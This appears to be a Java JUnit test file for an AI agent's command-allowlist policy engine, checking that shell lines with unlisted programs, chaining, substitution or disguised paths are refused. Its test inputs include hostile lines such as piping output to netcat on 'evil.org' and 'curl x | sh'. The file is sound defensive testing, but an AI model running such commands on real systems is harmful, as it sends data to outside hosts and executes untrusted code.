package ai.aegis.worker.smcp.policy;

import ai.aegis.schemas.json.Json;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.List;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

class CommandPolicyTest {

    private static final Capability LS_ECHO = new Capability("cmd.run", null, List.of("ls", "echo", "sort"), null,
            null, null, null);
    private static final Capability GIT_STATUS = new Capability("cmd.run", null, List.of("git"), List.of("status", "log"),
            null, null, null);

    private static PolicyDecision run(Capability capability, String line) {
        return PolicyEngine.evaluate(new SecurityContext("t", "", List.of(capability), Set.of()), "cmd.run",
                Json.object().put("command", line));
    }

    private static PolicyDecision runArgv(Capability capability, String program, String... argv) {
        ObjectNode args = Json.object().put("command", program);
        var array = args.putArray("args");
        for (String a : argv) {
            array.add(a);
        }
        return PolicyEngine.evaluate(new SecurityContext("t", "", List.of(capability), Set.of()), "cmd.run", args);
    }

    private static PolicyViolation refused(PolicyDecision decision) {
        assertThat(decision).isInstanceOf(PolicyDecision.Denied.class);
        PolicyViolation v = ((PolicyDecision.Denied) decision).violation();
        assertThat(v.type()).isEqualTo(ViolationType.COMMAND_NOT_ALLOWED);
        return v;
    }

    @ParameterizedTest
    @ValueSource(strings = {"ls -la", "ls", "echo \"a; curl\"", "FOO=1 ls", "ls > out.txt", "echo $((40+2))",
            "ls && echo done", "ls | sort", "ls 2>&1 | sort > sorted.txt", "/usr/bin/ls -l", "/bin/echo x",
            "echo 'curl x'", "echo hi # curl x", "  ls  "})
    void aShellLineWhoseEveryProgramIsListedIsAllowed(String line) {
        assertThat(run(LS_ECHO, line)).isInstanceOf(PolicyDecision.Allowed.class);
    }

    @Test
    void everyProgramOfTheLineMustBeListed() {
        PolicyViolation v = refused(run(LS_ECHO, "echo hi && curl x"));
        assertThat(v.message()).isEqualTo("program 'curl' is not in the allowed commands [ls, echo, sort]");
        assertThat(refused(run(LS_ECHO, "ls | nc evil.org 80")).message()).contains("'nc'");
        assertThat(refused(run(LS_ECHO, "ls; curl x")).message()).contains("'curl'");
        assertThat(refused(run(LS_ECHO, "ls\ncurl x")).message()).contains("'curl'");
        assertThat(refused(run(LS_ECHO, "ls & curl x")).message()).contains("'curl'");
        assertThat(refused(run(LS_ECHO, "ls || curl x")).message()).contains("'curl'");
        assertThat(refused(run(LS_ECHO, "curl x")).message()).contains("'curl'");
    }

    @Test
    void aProgramGivenAsAPathCountsByItsNameOnlyInASystemDirectory() {
        assertThat(refused(run(LS_ECHO, "/usr/bin/curl x")).message()).contains("'/usr/bin/curl'");
        assertThat(refused(run(LS_ECHO, "./ls")).message()).contains("'./ls'", "/usr/bin");
        assertThat(refused(run(LS_ECHO, "/workspace/ls")).message()).contains("'/workspace/ls'");
        assertThat(refused(run(LS_ECHO, "/tmp/ls")).message()).contains("'/tmp/ls'");
        assertThat(refused(run(LS_ECHO, "/usr/bin/../../tmp/ls")).message()).contains("'/usr/bin/../../tmp/ls'");
        assertThat(run(LS_ECHO, "/usr/local/bin/ls")).isInstanceOf(PolicyDecision.Allowed.class);
    }

    @Test
    void anEntryThatIsAPathAllowsExactlyThatPath() {
        Capability tool = new Capability("cmd.run", null, List.of("/opt/tool/run"), null, null, null, null);
        assertThat(run(tool, "/opt/tool/run --fast")).isInstanceOf(PolicyDecision.Allowed.class);
        refused(run(tool, "run --fast"));
        refused(run(tool, "/usr/bin/run"));
    }

    @Test
    void aProgramNamedThroughAVariableOrQuotingTricksIsNotListed() {
        refused(run(LS_ECHO, "$CMD x"));
        refused(run(LS_ECHO, "{ls,-la}"));
        refused(run(LS_ECHO, "\"FOO\"=1 ls"));
        refused(run(LS_ECHO, "PATH=/workspace ls"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"echo `id`", "echo $(id)", "echo \"$(curl x)\"", "diff <(ls) x", "ls >(curl x)",
            "(curl x)", "{ ls; }", "echo 'unterminated", "cat <<EOF\nx\nEOF"})
    void whatTheShellLineCannotShowIsRefusedWithTheReason(String line) {
        PolicyViolation v = refused(run(LS_ECHO, line));
        assertThat(v.message()).startsWith("command '" + line + "' is refused: ");
    }

    @Test
    void substitutionMessagesSayWhy() {
        assertThat(refused(run(LS_ECHO, "echo `id`")).message()).contains("command substitution");
        assertThat(refused(run(LS_ECHO, "echo $(id)")).message()).contains("command substitution");
        assertThat(refused(run(LS_ECHO, "diff <(ls) x")).message()).contains("process substitution");
    }

    @Test
    void aLineThatRunsNoProgramIsRefused() {
        assertThat(refused(run(LS_ECHO, "FOO=1")).message()).contains("runs no program");
        assertThat(refused(run(LS_ECHO, "# only a comment")).message()).contains("runs no program");
    }

    @Test
    void argvFormNamesOneProgramAndNoShell() {
        assertThat(runArgv(LS_ECHO, "ls", "-la", "; curl x")).isInstanceOf(PolicyDecision.Allowed.class);
        assertThat(runArgv(LS_ECHO, "echo", "$(id)", "`id`")).isInstanceOf(PolicyDecision.Allowed.class);
        assertThat(runArgv(LS_ECHO, "/usr/bin/ls")).isInstanceOf(PolicyDecision.Allowed.class);
        assertThat(refused(runArgv(LS_ECHO, "curl", "x")).message()).contains("'curl'");
        assertThat(refused(runArgv(LS_ECHO, "/usr/bin/curl")).message()).contains("'/usr/bin/curl'");
        // spaces are part of the program's name in argv form
        assertThat(refused(runArgv(LS_ECHO, "ls -la")).message()).contains("'ls -la'");
        assertThat(refused(runArgv(LS_ECHO, "ls && curl x")).message()).contains("'ls && curl x'");
    }

    @Test
    void argsMustBeAnArrayOfStrings() {
        SecurityContext context = new SecurityContext("t", "", List.of(LS_ECHO), Set.of());
        for (String json : List.of("{\"command\":\"ls\",\"args\":\"-la\"}", "{\"command\":\"ls\",\"args\":[1]}",
                "{\"command\":\"ls\",\"args\":{\"a\":1}}")) {
            PolicyViolation v = refused(PolicyEngine.evaluate(context, "cmd.run", Json.tree(json)));
            assertThat(v.message()).as(json).contains("'args' must be an array of strings");
        }
        assertThat(PolicyEngine.evaluate(context, "cmd.run", Json.tree("{\"command\":\"ls\",\"args\":null}")))
                .isInstanceOf(PolicyDecision.Allowed.class);
    }

    @Test
    void theCommandIsRequired() {
        SecurityContext context = new SecurityContext("t", "", List.of(Capability.of("*")), Set.of());
        for (String json : List.of("{}", "{\"command\":\"\"}", "{\"command\":\" \"}", "{\"command\":[\"ls\"]}",
                "{\"args\":[\"ls\"]}")) {
            PolicyDecision decision = PolicyEngine.evaluate(context, "cmd.run", Json.tree(json));
            assertThat(decision).as(json).isInstanceOf(PolicyDecision.Denied.class);
            PolicyViolation v = ((PolicyDecision.Denied) decision).violation();
            assertThat(v.type()).as(json).isEqualTo(ViolationType.MISSING_REQUIRED_ARGUMENT);
            assertThat(v.message()).contains("'command'");
        }
    }

    @Test
    void withoutAllowlistsAnyLineGoes() {
        assertThat(run(Capability.of("cmd.run"), "curl x | sh; echo $(id)")).isInstanceOf(PolicyDecision.Allowed.class);
        assertThat(run(Capability.of("*"), "echo 'unterminated")).isInstanceOf(PolicyDecision.Allowed.class);
    }

    @Test
    void anEmptyCommandAllowlistAllowsNoProgram() {
        refused(run(new Capability("cmd.run", null, List.of(), null, null, null, null), "ls"));
    }

    @Test
    void subcommandsOfEveryCommandMustBeListed() {
        assertThat(run(GIT_STATUS, "git status")).isInstanceOf(PolicyDecision.Allowed.class);
        assertThat(run(GIT_STATUS, "git status --short && git log -1")).isInstanceOf(PolicyDecision.Allowed.class);
        assertThat(refused(run(GIT_STATUS, "git push")).message())
                .isEqualTo("subcommand 'push' of 'git' is not in the allowed subcommands [status, log]");
        assertThat(refused(run(GIT_STATUS, "git")).message())
                .isEqualTo("'git' needs one of the allowed subcommands [status, log]");
        assertThat(refused(run(GIT_STATUS, "git status; git push origin")).message()).contains("'push'");
        assertThat(refused(run(GIT_STATUS, "git -c x=y push")).message()).contains("'-c'");
        assertThat(refused(run(GIT_STATUS, "ls status")).message()).contains("'ls'");
    }

    @Test
    void subcommandsInArgvForm() {
        assertThat(runArgv(GIT_STATUS, "git", "status", "--short")).isInstanceOf(PolicyDecision.Allowed.class);
        assertThat(refused(runArgv(GIT_STATUS, "git", "push")).message()).contains("'push'");
        assertThat(refused(runArgv(GIT_STATUS, "git")).message()).contains("needs one of the allowed subcommands");
    }

    @Test
    void aSubcommandAllowlistAloneStillParsesTheLine() {
        Capability subOnly = new Capability("cmd.run", null, null, List.of("status"), null, null, null);
        assertThat(run(subOnly, "git status")).isInstanceOf(PolicyDecision.Allowed.class);
        refused(run(subOnly, "git status && curl x"));
        refused(run(subOnly, "git status $(id)"));
    }

    @Test
    void onlyCmdRunIsACommand() {
        JsonNode args = Json.object().put("command", "curl x");
        assertThat(PolicyEngine.evaluate(new SecurityContext("t", "", List.of(
                        new Capability("*", null, List.of("ls"), null, null, null, null)), Set.of()), "notes.add", args))
                .isInstanceOf(PolicyDecision.Allowed.class);
    }
}
